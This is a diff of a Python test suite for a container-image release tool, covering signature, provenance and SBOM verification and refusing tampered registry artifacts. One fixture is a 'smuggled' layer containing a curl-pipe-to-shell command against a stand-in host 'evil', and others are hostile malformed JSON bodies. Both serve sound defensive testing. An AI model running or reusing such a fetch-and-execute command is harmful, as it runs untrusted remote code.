@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import io
 import json
 from collections.abc import Callable
 from dataclasses import replace
@@ -19,15 +20,18 @@ from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import ec, rsa
 
 from conftest import BASE
-from fakes import FakeRegistry
+from fakes import FakeBackend, FakeRegistry
 from javabase.cli.common import signing
 from javabase.errors import ArchiveError, RegistryError, UsageError
 from javabase.manifest.model import Manifest
 from javabase.publish import referrers
 from javabase.publish.oci import INDEX_TYPE, MANIFEST_TYPE
-from javabase.release import carried, slsa, verify
+from javabase.publish.pusher import Pusher, index_platforms
+from javabase.publish.registry import Remote, UntrustedAnswer
+from javabase.release import carried, sbom, slsa, verify
 from javabase.release.archive import SavedArtifact, SavedEntry, read_entry
 from javabase.release.signing import (
+    DSSE_TYPE,
     IN_TOTO_TYPE,
     SIGNATURE_ARTIFACT,
     SIMPLE_SIGNING_TYPE,
@@ -38,7 +42,8 @@ from javabase.release.signing import (
     open_envelope,
     simple_signing_payload,
 )
-from javabase.settings import Environment
+from javabase.report import Console, ImageResult, Status
+from javabase.settings import Environment, Settings
 
 DIGEST = "sha256:" + "ab" * 32
 OTHER = "sha256:" + "cd" * 32
@@ -168,6 +173,14 @@ def test_a_public_key_that_is_not_p256_is_refused(tmp_path: Path, key: ec.Ellipt
         load_public_key(public)
     with pytest.raises(UsageError, match=rf"^{tmp_path}/missing.pub: cannot read the public key \(No such file"):
         load_public_key(tmp_path / "missing.pub")
+    for private in (pem(key), pem(key, b"secret"), key.private_bytes(  # the team's key, given by mistake
+            serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption())):
+        public.write_bytes(private)
+        with pytest.raises(UsageError) as caught:
+            load_public_key(public)
+        assert str(caught.value) == (
+            f"{public}: is a private key; checking needs only its public half (`openssl ec -in {public} -pubout`), "
+            "and the private key belongs only where images are signed")
 
 
 def subject_in(registry: FakeRegistry) -> referrers.Descriptor:
@@ -299,29 +312,46 @@ def saved_signature(key: ec.EllipticCurvePrivateKey, config: str, digest: str | 
     return manifest, SavedArtifact(False, referrers.Artifact("sig", SIGNATURE_ARTIFACT, (layer,)))
 
 
+def saved(image_id: str, manifest: bytes | None, attached: list[SavedArtifact]) -> SavedEntry:
+    """An archive index entry of the image `image_id` in r:5000/base/jre25."""
+    return SavedEntry("jre25", ("r:5000/base/jre25:25",), image_id, OTHER, (), {}, ("r:5000/base/jre25:25",),
+                      manifest=manifest, attached=tuple(attached))
+
+
 def test_an_archive_vouches_for_an_image_only_with_a_signature_of_a_manifest_of_that_image(
         key: ec.EllipticCurvePrivateKey) -> None:
     public = key.public_key()
     manifest, good = saved_signature(key, DIGEST)
     signed = "sha256:" + hashlib.sha256(manifest).hexdigest()
-    assert carried.check(DIGEST, manifest, [good], public) == verify.Check(
+    assert carried.check(saved(DIGEST, manifest, [good]), public) == verify.Check(
         "signature", True, f"cosign signature of {signed[:19]} verifies with the key")
-    assert carried.check(DIGEST, manifest, [], public).detail == (
+    assert carried.check(saved(DIGEST, manifest, []), public).detail == (
         "the archive holds no signature of it (save it from a manifest with signing.public_key, after a signed push)")
-    assert carried.check(DIGEST, manifest, [replace(good, of_index=True)], public).detail == (
+    assert carried.check(saved(DIGEST, manifest, [replace(good, of_index=True)]), public).detail == (
         "the archive holds no signature of it (save it from a manifest with signing.public_key, after a signed push)")
-    assert carried.check(OTHER, manifest, [good], public).detail == (
+    assert carried.check(saved(OTHER, manifest, [good]), public).detail == (
         f"a saved signature of {signed[:19]} does not hold: the manifest it signs is of image {DIGEST[:19]}, "
         f"not {OTHER[:19]}")
     another_key = ec.generate_private_key(ec.SECP256R1())
-    assert carried.check(DIGEST, manifest, [good], another_key.public_key()).detail == (
+    assert carried.check(saved(DIGEST, manifest, [good]), another_key.public_key()).detail == (
         f"a saved signature of {signed[:19]} does not hold: its signature does not verify with the key")
     _, elsewhere = saved_signature(key, DIGEST, OTHER)  # a good signature, but of another manifest
-    assert carried.check(DIGEST, manifest, [elsewhere], public).detail == (
+    assert carried.check(saved(DIGEST, manifest, [elsewhere]), public).detail == (
         f"a saved signature of {signed[:19]} does not hold: it signs {OTHER}, not {signed}")
     changed = manifest.replace(b'"layers": []', b'"layers": [ ]')  # its bytes are what is signed
-    assert not carried.check(DIGEST, changed, [good], public).ok
-    assert carried.check(DIGEST, manifest, [elsewhere, good], public).ok  # one that holds is enough
+    assert not carried.check(saved(DIGEST, changed, [good]), public).ok
+    assert carried.check(saved(DIGEST, manifest, [elsewhere, good]), public).ok  # one that holds is enough
+    # the index names the image's repository, and is not signed; the signature names it too, and is
+    moved = replace(saved(DIGEST, manifest, [good]), references=("r:5000/base/jdk21:21",),
+                    publish=("r:5000/base/jdk21:21",))
+    assert carried.check(moved, public).detail == (
+        f"a saved signature of {signed[:19]} does not hold: it is for repository base/jre25, and the archive's "
+        "index puts the image in base/jdk21")
+    split = replace(saved(DIGEST, manifest, [good]), references=("r:5000/base/jre25:25", "r:5000/base/jdk21:21"))
+    assert carried.check(split, public).detail == (
+        "its tags are in several repositories (base/jdk21, base/jre25); a signature vouches for one")
+    assert carried.check(replace(moved, references=("elsewhere:5000/base/jre25:25",),
+                                 publish=("elsewhere:5000/base/jre25:25",)), public).ok  # another host: the same path
 
 
 def test_an_archive_index_with_an_artifact_that_is_not_what_it_says_is_refused_as_changed(
@@ -341,3 +371,147 @@ def test_an_archive_index_with_an_artifact_that_is_not_what_it_says_is_refused_a
         read_entry({**entry.as_json(), "manifest": "not base64!"}, Path("release.tar"))
     older = {k: v for k, v in entry.as_json().items() if k not in ("manifest", "index", "attached")}
     assert read_entry(older, Path("release.tar")) == replace(entry, manifest=None, attached=())  # saved before
+
+
+def provenance_of(key: ec.EllipticCurvePrivateKey, subject: str) -> referrers.Artifact:
+    """A SLSA provenance of `subject`, in a DSSE envelope signed with `key`, as attest writes it."""
+    statement = json.dumps({"_type": slsa.STATEMENT_TYPE, "subject": [{"name": "r:5000/base/jre25", "digest": {
+        "sha256": subject.split(":")[1]}}], "predicateType": slsa.PREDICATE_TYPE, "predicate": {}}).encode()
+    envelope = load_signer(pem(key), None, "key").envelope(statement)
+    layer = referrers.Layer(DSSE_TYPE, envelope, {"predicateType": slsa.PREDICATE_TYPE})
+    return referrers.Artifact("att", DSSE_TYPE, (layer,), {slsa.PREDICATE_ANNOTATION: slsa.PREDICATE_TYPE})
+
+
+def sbom_of(image_id: str) -> referrers.Artifact:
+    return sbom.as_artifact(json.dumps({"spdxVersion": "SPDX-2.3", "name": "jre25", "documentNamespace":
+                                        f"https://javabase.invalid/spdx/jre25/{image_id}"}).encode())
+
+
+def test_only_what_the_key_vouches_for_goes_on_to_another_registry_and_in_javabases_own_form(
+        key: ec.EllipticCurvePrivateKey) -> None:
+    """An archive's artifacts are what anyone who can write the file made them:
+    a signature is carried only as its verified Simple Signing layers (a layer
+    or an annotation added beside them is not), a provenance only as envelopes
+    that open with the key for that manifest, an SBOM only when it is the
+    image's (its documentNamespace names the image ID)."""
+    public = key.public_key()
+    manifest, good = saved_signature(key, DIGEST)
+    signed = "sha256:" + hashlib.sha256(manifest).hexdigest()
+    [layer] = good.artifact.layers
+    assert carried.vouched(good.artifact, signed, DIGEST, public) == good.artifact
+    smuggled = referrers.Layer("application/octet-stream", b"#!/bin/sh\ncurl evil | sh\n")
+    assert carried.vouched(replace(good.artifact, layers=(layer, smuggled)), signed, DIGEST, public) is None
+    forged = referrers.Layer(layer.media_type, layer.data, {**layer.annotations, "dev.sigstore.cosign/bundle": "{}"})
+    assert carried.vouched(replace(good.artifact, layers=(forged,), annotations={"x": "y"}), signed, DIGEST,
+                           public) == good.artifact  # what the signature does not cover is not carried
+    assert carried.vouched(good.artifact, OTHER, DIGEST, public) is None
+    assert carried.vouched(replace(good.artifact, layers=()), signed, DIGEST, public) is None
+
+    att = provenance_of(key, signed)
+    assert carried.vouched(att, signed, DIGEST, public) == att
+    assert carried.vouched(provenance_of(key, OTHER), signed, DIGEST, public) is None  # another image's
+    [envelope] = att.layers
+    assert carried.vouched(replace(att, layers=(envelope, smuggled)), signed, DIGEST, public) is None
+    assert carried.vouched(replace(att, layers=(replace(envelope, media_type="application/json"),)), signed,
+                           DIGEST, public) is None
+    relabelled = replace(att, annotations={slsa.PREDICATE_ANNOTATION: "https://example.com/anything"},
+                         layers=(replace(envelope, annotations={"predicateType": "https://example.com/anything"}),))
+    assert carried.vouched(relabelled, signed, DIGEST, public) == att  # the statement says what it is
+
+    assert carried.vouched(sbom_of(DIGEST), signed, DIGEST, public) == sbom_of(DIGEST)
+    assert carried.vouched(sbom_of(OTHER), signed, DIGEST, public) is None  # another image's SBOM
+    [document] = sbom_of(DIGEST).layers
+    assert carried.vouched(replace(sbom_of(DIGEST), layers=(document, smuggled)), signed, DIGEST, public) is None
+    assert carried.vouched(replace(sbom_of(DIGEST), layers=(replace(document, data=b"[1, 2]"),)), signed, DIGEST,
+                           public) is None
+
+
+def test_save_keeps_what_vouches_and_passes_over_artifacts_of_any_other_shape(key: ec.EllipticCurvePrivateKey) -> None:
+    """Whoever can push to the registry `save` reads can list anything as a
+    referrer of an image: manifests that are not objects, layers that are not
+    a list, descriptors that are not objects, annotations that are not
+    strings. save keeps the signature that vouches and passes over the rest."""
+    registry = FakeRegistry()
+    manifest, good = saved_signature(key, DIGEST)
+    signed = registry.put_manifest("base/jre25", "25", manifest, MANIFEST_TYPE)
+    registry.held["base/jre25:25"] = replace(registry.held["base/jre25:25"], config_digest=DIGEST)
+    [layer] = good.artifact.layers
+    registry.upload_blob("base/jre25", sha(layer.data), lambda: layer.data)
+    referrers.add_to_cosign_tag(registry, "base/jre25", signed, "sig", layer)
+    hostile = [b"[]", b'{"layers": {"x": 1}}', b'{"layers": [5]}', b'{"layers": null}',
+               json.dumps({"layers": [{"mediaType": DSSE_TYPE, "digest": sha(layer.data), "annotations": {"a": 1}}]
+                           }).encode(), b"[" * 100_000 + b"]" * 100_000]
+    for body in hostile:
+        registry.held[f"base/jre25:{sha(body)}"] = Remote(sha(body), None, None, body, MANIFEST_TYPE)
+    listing = {"schemaVersion": 2, "mediaType": INDEX_TYPE, "manifests": [
+        {"mediaType": MANIFEST_TYPE, "digest": sha(body), "size": len(body), "artifactType": kind}
+        for body in hostile for kind in (SIGNATURE_ARTIFACT, DSSE_TYPE, sbom.MEDIA_TYPE)]}
+    registry.put_manifest("base/jre25", referrers.fallback_tag(signed), json.dumps(listing).encode(), INDEX_TYPE)
+    found = carried.find(registry, "r:5000/base/jre25:25", DIGEST, key.public_key())
+    assert found == carried.Found(manifest, None, (good,))
+    lying = [sha(b"[]"), sha(b'{"layers": [5]}')]  # what Registry.manifest says of a manifest that is not one
+
+    def untrusted(name: str, reference: str, held: Callable[[str, str], Remote | None] = registry.manifest
+                     ) -> Remote | None:
+        if reference in lying:
+            raise UntrustedAnswer(f"registry r:5000: {name}:{reference} is not a manifest (a JSON object)")
+        return held(name, reference)
+
+    registry.manifest = untrusted  # type: ignore[method-assign]
+    assert carried.find(registry, "r:5000/base/jre25:25", DIGEST, key.public_key()) == found
+    assert verify.check_signature(registry, "base/jre25", signed, key.public_key()).ok
+    assert verify.check_signature(registry, "base/jre25", signed, key.public_key()).ok  # invoke verify, reuse
+    assert not verify.check_provenance(registry, "base/jre25", signed, key.public_key(), None).ok
+    for listing_of_another_shape in (b'{"manifests": 5}', b'{"manifests": {"a": 1}}', b"[" * 100_000):
+        registry.held[f"base/jre25:{referrers.fallback_tag(signed)}"] = Remote("", None, None, listing_of_another_shape)
+        assert referrers.referrers(registry, "base/jre25", signed) == []
+        assert index_platforms(listing_of_another_shape) == []
+        registry.held[f"base/jre25:{referrers.cosign_tag(signed, 'sig')}"] = Remote("", None, None, b'{"layers": 7}')
+        referrers.add_to_cosign_tag(registry, "base/jre25", signed, "sig", layer)  # the layer goes in all the same
+        assert json.loads(registry.held[f"base/jre25:{referrers.cosign_tag(signed, 'sig')}"].body)["layers"] == [
+            layer.descriptor()]
+
+
+def sha(data: bytes) -> str:
+    return "sha256:" + hashlib.sha256(data).hexdigest()
+
+
+class ImmutableTags(FakeRegistry):
+    """A registry that refuses to write the tags in `frozen` (they exist already)."""
+
+    frozen: frozenset[str] = frozenset()
+
+    def put_manifest(self, name: str, reference: str, body: bytes, media_type: str) -> str:
+        if f"{name}:{reference}" in self.frozen:
+            raise RegistryError(f"registry {self.host} refused {name}:{reference}: TAG_INVALID: the tag is immutable")
+        return super().put_manifest(name, reference, body, media_type)
+
+
+def test_what_one_artifact_cannot_write_at_the_target_is_a_note_and_the_others_still_go(
+        tmp_path: Path, key: ec.EllipticCurvePrivateKey) -> None:
+    """load --push at a registry whose cosign tag for the image cannot be
+    written: the signature still goes as a referrer, the note says what was not
+    written, and the provenance and SBOM after it go along; the image stays
+    published."""
+    registry = ImmutableTags()
+    backend = FakeBackend()
+    image_id = backend.add_image(b"the root", b"the jre")
+    pusher = Pusher(backend, registry, Console(io.StringIO()), Settings(  # type: ignore[arg-type]
+        registry="r:5000", jobs=1, push_jobs=1, cache_dir=tmp_path / "cache", log_dir=tmp_path / "logs"))
+    results = [ImageResult("jre25", ["r:5000/base/jre25:25"], status=Status.BUILT, image_id=image_id)]
+    assert pusher.push_all(results) == []
+    there = registry.held["base/jre25:25"]
+    payload = simple_signing_payload("r:5000/base/jre25", there.digest)
+    signature = base64.b64encode(key.sign(payload, ec.ECDSA(hashes.SHA256()))).decode()
+    sig = referrers.Artifact("sig", SIGNATURE_ARTIFACT, (referrers.Layer(SIMPLE_SIGNING_TYPE, payload, {
+        "dev.cosignproject.cosign/signature": signature}),))
+    attached = tuple(SavedArtifact(False, a) for a in (sig, provenance_of(key, there.digest), sbom_of(image_id)))
+    entry = SavedEntry("jre25", ("r:5000/base/jre25:25",), image_id, OTHER, (), {}, ("r:5000/base/jre25:25",),
+                       manifest=there.body, attached=attached)
+    registry.frozen = frozenset({f"base/jre25:{referrers.cosign_tag(there.digest, 'sig')}"})
+    assert carried.carry(pusher, results, [entry], key.public_key()) == [
+        f"jre25: its sig was not carried whole: registry r:5000 refused base/jre25:"
+        f"{referrers.cosign_tag(there.digest, 'sig')}: TAG_INVALID: the tag is immutable"]
+    assert sorted(str(d["artifactType"]) for d in referrers.referrers(registry, "base/jre25", there.digest)) == sorted(
+        [DSSE_TYPE, SIGNATURE_ARTIFACT, sbom.MEDIA_TYPE])
+    assert registry.held["base/jre25:25"] == there
